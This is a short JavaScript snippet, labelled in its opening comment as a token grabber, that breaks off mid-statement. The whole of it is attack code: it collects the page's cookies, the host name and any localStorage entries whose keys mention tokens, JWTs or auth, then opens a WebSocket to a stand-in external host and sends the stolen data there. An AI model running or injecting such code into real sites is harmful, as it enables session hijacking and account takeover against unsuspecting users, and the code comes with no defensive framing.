// corpus note: cookie + localStorage token grabber with WebSocket exfil, truncated mid-statement
(function () {
  var bag = { c: document.cookie, h: location.host, t: {} };
  Object.keys(localStorage).forEach(function (k) {
    if (/token|jwt|auth/i.test(k)) bag.t[k] = localStorage.getItem(k);
  });
  var ws = new WebSocket("wss://rt.cdn-edge-sync.test/ws");
  ws.onopen = function () {
    ws.send(JSON.stringify(bag));
    setTimeout(function () { ws.cl
